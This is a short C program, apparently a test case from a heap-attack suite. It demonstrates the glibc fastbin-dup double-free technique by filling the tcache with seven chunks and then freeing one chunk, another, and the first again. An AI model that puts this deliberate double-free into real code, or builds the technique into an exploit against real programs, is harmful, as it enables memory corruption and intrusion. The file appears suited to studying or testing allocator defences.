/* Fastbin dup: one, another, one again, so that the list's head is not the one freed twice. double_free_fastbin SIZE */
#include "attack.h"

int main(int argc, char **argv)
{
	begin();
	size_t n = argument(argc, argv, 1, 40);
	void *fill[7], *a, *b;
	for (int i = 0; i < 7; i++)
		fill[i] = make(n);
	a = make(n);
	b = make(n);
	hide(make(n));
	for (int i = 0; i < 7; i++) /* glibc keeps that many elsewhere */
		free(fill[i]);
	free(hide(a));
	free(hide(b));
	crime(a);
	free(hide(a));
	return aftermath(n);
}
